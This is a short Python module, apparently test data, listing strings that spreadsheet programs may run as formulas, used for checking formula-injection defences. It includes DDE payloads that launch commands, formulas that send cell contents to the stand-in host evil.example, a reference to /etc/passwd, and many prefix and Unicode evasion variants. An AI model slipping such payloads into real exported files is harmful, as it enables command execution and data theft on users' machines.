"""Texts that spreadsheet programs may run as formulas."""

_RUNS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd","/C calc","x")',
    "=SUM(A1:A9)",
    "='file:///etc/passwd'#$Sheet1.A1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+44 20 7946 0000",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "- 7",
    "@SUM(1+1)",
    "@A1",
    "{=1+1}",
    "=1+1\n=2+2",
    "1\n=2+2",
    "1\t=2+2",
    "a;=1+1;b",
    'a";=1+1;"b',
    'a","=1+1',
    "a\r\n=1+1",
    "<r><t>=1+1</t></r>",
)
_SIGNS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)")
_BEFORE = ("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\ufeff", "'", '"')
_WIDE = ("＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "\u3000=1+1", "\x00=1+1", "\u200b=1+1", "﹦1+1")

PAYLOADS = (*_RUNS, *(before + sign for before in _BEFORE for sign in _SIGNS), *_WIDE)
